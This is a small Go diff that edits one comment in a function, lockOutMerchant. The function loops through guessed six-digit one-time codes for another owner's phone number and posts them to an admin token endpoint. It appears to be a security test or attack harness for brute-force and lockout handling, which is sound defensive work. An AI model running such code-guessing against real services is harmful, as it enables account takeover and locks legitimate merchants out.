@@ -62,7 +62,7 @@ func lockOutMerchant(ctx context.Context, t *target) (string, bool, error) {
 	if err != nil {
 		return "", false, err
 	}
-	for n := range 20 { // while the owner's code is valid
+	for n := range 20 { // guesses while the owner's code is valid
 		if _, err := t.post(ctx, "203.0.113.1", "/api/admin/v3/token", map[string]any{"phone": otherOwner, "code": fmt.Sprintf("9%05d", n)}); err != nil {
 			return "", false, err
 		}
